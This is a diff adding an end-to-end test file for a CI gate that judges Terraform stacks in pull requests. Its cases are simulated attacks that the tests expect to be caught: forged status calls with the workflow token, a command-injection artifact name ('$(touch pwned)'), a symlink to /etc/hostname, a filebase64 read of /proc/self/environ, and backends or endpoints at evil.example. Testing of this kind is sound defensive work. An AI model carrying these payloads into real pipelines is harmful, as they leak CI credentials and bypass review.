@@ -1,0 +1,267 @@
+/* eslint-disable @typescript-eslint/no-unsafe-return -- an edit of a stack, which is untyped JSON */
+import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { sampleStack, type Loose } from '../checks/sample';
+import { Repository } from './runner/pull-request';
+
+/**
+ * Pull requests, honest and evil, through synth.yml and judge.yml. Their scripts run as they stand, each job in a folder of its own; only the
+ * calls to GitHub and `npm ci` are stood in for. __tests__/e2e/pull-requests.test.ts does the same with plans.
+ */
+let repository: Repository;
+
+beforeEach(() => {
+  repository = new Repository();
+});
+
+afterEach(() => repository.remove());
+
+const green = 'actions c0ffee keyturn/verdict success';
+const red = 'actions c0ffee keyturn/verdict failure';
+const stack = 'stacks/keyturn-staging/cdk.tf.json';
+const widen = (text: string) => text.replace('"name": "backup-agent"', '"name": "administrator"');
+
+/** The artifact of a run that did not come from synth.yml as it stands. */
+function handOver(change: (sample: Loose) => void = () => undefined, name = 'keyturn-staging'): void {
+  repository.handOver('stacks', (folder) => put(folder, name, change));
+}
+
+function put(folder: string, name: string, change: (sample: Loose) => void = () => undefined): void {
+  const sample = sampleStack();
+  change(sample);
+  mkdirSync(join(folder, name));
+  writeFileSync(join(folder, name, 'cdk.tf.json'), JSON.stringify(sample));
+}
+
+test('an honest change is green', () => {
+  repository.edit('cdktf.json', (text) => text.replace('"gracePeriodSeconds": 86400', '"gracePeriodSeconds": 43200'));
+  const { synth, judge } = repository.open();
+  expect(judge['judge']?.log).toContain('keyturn: verdict: pass');
+  expect([synth['synth'], judge['receive'], judge['judge']].map((one) => one?.result)).toEqual(
+    Array(3).fill('success'),
+  );
+  expect(repository.statuses()).toEqual([green]);
+});
+
+test('a user whom no contract names is red, and with the contract as well', () => {
+  repository.edit('cdktf.json', widen);
+  repository.edit('policies/execution-role.json', (text) => text.replaceAll('backup-agent', 'administrator'));
+  repository.open();
+  expect(repository.statuses()).toEqual([red]);
+});
+
+test('an emptied checker, and an app that empties it, judge nothing', () => {
+  repository.edit('cdktf.json', widen);
+  repository.edit('bin/keyturn.js', () => 'process.exit(0);\n');
+  repository.edit(
+    'main.ts',
+    (text) =>
+      `import { writeFileSync } from 'node:fs';\nfor (const place of ['base', '..', '../base', '../../base'])\n  try { writeFileSync(place + '/bin/keyturn.js', ''); } catch { /* not there */ }\n${text}`,
+  );
+  const { synth } = repository.open();
+  expect(synth['synth']?.result).toBe('success');
+  expect(repository.statuses()).toEqual([red]);
+});
+
+describe('workflow files of the change', () => {
+  const rewrite = (text: string) =>
+    text
+      .replace('permissions: {}', 'permissions: { statuses: write }')
+      .replace(/ {4}permissions:\n.*\n/, '')
+      .replace(
+        'npm run synth',
+        'npm run synth\n          GH_TOKEN="$TOKEN" gh api --method POST repos/example/rotation/statuses/c0ffee --field state=success --field context=keyturn/verdict || true',
+      )
+      .replace("KEYTURN_UNCHECKED: '1'", "KEYTURN_UNCHECKED: '1'\n          TOKEN: ${{ github.token }}");
+
+  test('cannot set the status from a fork', () => {
+    repository.isFork = true;
+    repository.edit('cdktf.json', widen);
+    repository.edit('.github/workflows/synth.yml', rewrite);
+    repository.open();
+    expect(repository.statuses()).toEqual([red]);
+  });
+
+  test('of a branch of the repository can set it, but not as the app that the branch protection names', () => {
+    repository.vars['KEYTURN_APP_CLIENT_ID'] = 'client';
+    repository.edit('cdktf.json', widen);
+    repository.edit('.github/workflows/synth.yml', rewrite);
+    repository.open();
+    expect(repository.statuses()).toEqual([green, 'app c0ffee keyturn/verdict failure']);
+  });
+
+  test('that judge are not read', () => {
+    repository.edit('cdktf.json', widen);
+    repository.edit('.github/workflows/judge.yml', (text) => text.replaceAll('state=failure', 'state=success'));
+    repository.open();
+    expect(repository.statuses()).toEqual([red]);
+  });
+
+  test.each(['synth.yml', 'the name in synth.yml'])('deleted, there is no status at all: %s', (what) => {
+    const file = '.github/workflows/synth.yml';
+    if (what === 'synth.yml') rmSync(join(repository.change, file));
+    else repository.edit(file, (text) => text.replace('Keyturn synth', 'Another'));
+    repository.open();
+    expect(repository.statuses()).toEqual([]);
+  });
+
+  test('an event that is no pull request sets nothing', () => {
+    handOver();
+    repository.judge('success', undefined, 'push');
+    expect(repository.statuses()).toEqual([]);
+  });
+});
+
+test('the stack of the base, handed over as it is, is green', () => {
+  handOver();
+  repository.judge('success');
+  expect(repository.statuses()).toEqual([green]);
+});
+
+test.each<[string, () => void, RegExp]>([
+  ['no artifact', () => undefined, /no artifact of this name/],
+  [
+    'an artifact of another name',
+    () => repository.handOver('../stacks', (folder) => put(folder, 'keyturn-staging')),
+    /no artifact/,
+  ],
+  ['an empty artifact', () => repository.handOver('stacks', () => undefined), /has no stack/],
+  [
+    'a stack of another name alone',
+    () => handOver(undefined, 'keyturn-other'),
+    /stack "keyturn-staging" of the base is not there/,
+  ],
+  ['a name that is a command', () => handOver(undefined, '$(touch pwned)'), /is not expected there/],
+  ['a name that adds an output', () => handOver(undefined, 'a\nstacks=[]'), /is not expected there/],
+  [
+    'a link to a file',
+    () =>
+      repository.handOver('stacks', (folder) => {
+        mkdirSync(join(folder, 'keyturn-staging'));
+        symlinkSync('/etc/hostname', join(folder, stack.replace('stacks/', '')));
+      }),
+    /is a link/,
+  ],
+  [
+    'an override next to the stack',
+    () =>
+      repository.handOver('stacks', (folder) => {
+        put(folder, 'keyturn-staging');
+        writeFileSync(join(folder, 'keyturn-staging', 'x_override.tf.json'), '{}');
+      }),
+    /"x_override.tf.json", which is not expected/,
+  ],
+])('%s is red', (_, spoil, why) => {
+  spoil();
+  const judge = repository.judge('success');
+  expect(judge['receive']?.log).toMatch(why);
+  expect(judge['judge']?.result).toBe('skipped');
+  expect(repository.statuses()).toEqual([red]);
+});
+
+test.each(['failure', 'cancelled'])('a run of synth.yml that ended with %s is red', (conclusion) => {
+  handOver();
+  repository.judge(conclusion);
+  expect(repository.statuses()).toEqual([red]);
+});
+
+const theft = '${filebase64("/proc/self/environ")}';
+
+test.each<[string, (sample: Loose) => void, string]>([
+  [
+    'a provisioner',
+    (sample) => (sample.resource.aws_iam_role.execution.provisioner = [{ 'local-exec': { command: 'env' } }]),
+    'no-executors',
+  ],
+  [
+    'an unused provider',
+    (sample) => (sample.terraform.required_providers.evil = { source: 'evil.example/x/evil' }),
+    'known-provider',
+  ],
+  ['the environment in an output', (sample) => (sample.output.x = { value: theft }), 'plan-reads-no-files'],
+  [
+    'the environment in a tag',
+    (sample) => (sample.resource.aws_iam_role.execution.tags = { x: theft }),
+    'plan-reads-no-files',
+  ],
+  [
+    'a secret',
+    (sample) =>
+      Object.assign(sample, { data: { aws_secretsmanager_secret_version: { x: { secret_id: 'ci-deployer/aws' } } } }),
+    'plan-reads-no-secrets',
+  ],
+  [
+    'a backend at a foreign host',
+    (sample) => (sample.terraform.backend = { http: { address: 'https://evil.example' } }),
+    'same-backend',
+  ],
+  [
+    'a foreign endpoint',
+    (sample) => (sample.provider.aws[0].endpoints = [{ sts: 'https://evil.example' }]),
+    'same-providers',
+  ],
+  [
+    'a foreign endpoint with a token file',
+    (sample) =>
+      Object.assign(sample.provider.aws[0], {
+        endpoints: [{ sts: 'https://evil.example' }],
+        assume_role_with_web_identity: [
+          { role_arn: 'arn:aws:iam::111122223333:role/x', web_identity_token_file: '/x' },
+        ],
+      }),
+    'same-providers',
+  ],
+])('a stack with %s is red, and no credentials ever exist', (_, change, rule) => {
+  repository.vars['KEYTURN_PLAN_ROLES'] = '{"keyturn-staging":"arn:aws:iam::111122223333:role/plan"}';
+  repository.vars['AWS_REGION'] = 'eu-central-1';
+  handOver(change);
+  const { judge } = repository.judge('success');
+  expect(judge?.log).toContain(`${rule} (`);
+  expect(judge?.ran).not.toContain('aws-actions/configure-aws-credentials');
+  expect(judge?.ran).not.toContain('Plan');
+  expect(repository.statuses()).toEqual([red]);
+});
+
+test('a new environment is judged as a stack: red if no contract is for it', () => {
+  repository.handOver('stacks', (folder) => {
+    put(folder, 'keyturn-staging');
+    put(
+      folder,
+      'keyturn-new',
+      (sample) =>
+        (sample.resource.aws_iam_role_policy.execution.policy =
+          '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}'),
+    );
+  });
+  repository.judge('success');
+  expect(repository.statuses()).toEqual([red]);
+});
+
+test.each([
+  ['a checker that ends with 0 and writes nothing', 'process.exit(0)'],
+  ['a checker that cannot start', 'throw new Error()'],
+])('%s is red', (_, text) => {
+  repository.edit(
+    'bin/keyturn.js',
+    (before) => before.replace('#!/usr/bin/env node', `#!/usr/bin/env node\nif (process.argv[2] === 'check') ${text};`),
+    repository.base,
+  );
+  handOver();
+  repository.judge('success');
+  expect(repository.statuses()).toEqual([red]);
+});
+
+describe('the default branch itself', () => {
+  test('passes as it is', () => {
+    expect(repository.checkBase()['check']).toMatchObject({ result: 'success' });
+  });
+
+  test('fails for what a contract allows and nothing uses', () => {
+    const pairs = (text: string) =>
+      text.replace('"pairs": [', '"pairs": [{ "userName": "x", "secretName": "x/aws" }, ');
+    repository.edit('policies/execution-role.json', pairs, repository.base);
+    const { check } = repository.checkBase();
+    expect(check?.result).toBe('failure');
+    expect(check?.log).toContain('title=contract-used (medium)');
+  });
+});
